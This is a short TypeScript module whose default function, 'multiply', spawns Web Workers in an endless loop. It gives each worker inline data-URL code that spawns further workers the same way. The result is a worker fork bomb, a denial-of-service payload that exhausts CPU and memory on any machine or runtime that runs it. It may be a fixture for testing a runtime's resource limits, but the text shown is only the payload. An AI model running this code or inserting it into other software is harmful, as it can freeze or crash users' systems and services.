/** Starts workers that start workers. */

/** See above. */
export default async function multiply(): Promise<never> {
  const text = `
    for (;;) {
      new Worker(import.meta.url, { type: "module" });
      await new Promise((resolve) => setTimeout(resolve, 1));
    }`;
  const url = `data:text/javascript,${encodeURIComponent(text)}`;
  for (;;) {
    new Worker(url, { type: "module" });
    await new Promise((resolve) => setTimeout(resolve, 1));
  }
}
